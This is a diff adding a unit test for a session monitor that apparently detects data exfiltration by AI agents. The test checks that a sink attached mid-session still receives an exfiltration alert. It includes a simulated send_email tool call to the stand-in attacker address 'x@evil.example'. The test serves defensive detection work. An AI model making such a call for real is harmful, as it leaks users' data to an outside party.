@@ -126,3 +126,16 @@ def test_level_changes_are_pushed_once_each() -> None:
     for _ in range(3):
         monitor.observe_user_message("s", "hello")
     assert sink.levels == [LevelChanged(session_id="s", level=Level.PARTIAL, legs=(P,))]
+
+
+def test_a_sink_set_later_hears_from_the_sessions_already_held() -> None:
+    monitor = SessionMonitor()
+    replay_events(monitor, SESSION[:4])
+    sink = RecordingSink()
+    monitor.sink = sink
+    replay_events(monitor, SESSION[4:])
+    assert sink.alert_kinds == [AlertKind.EXFILTRATION]
+    assert [n.level for n in sink.levels] == [Level.EXFILTRATION]
+    monitor.sink = None
+    monitor.before_call("session-1", "mail", "send_email", {"to": "x@evil.example"}, "c3")
+    assert len(sink.decisions) == 1
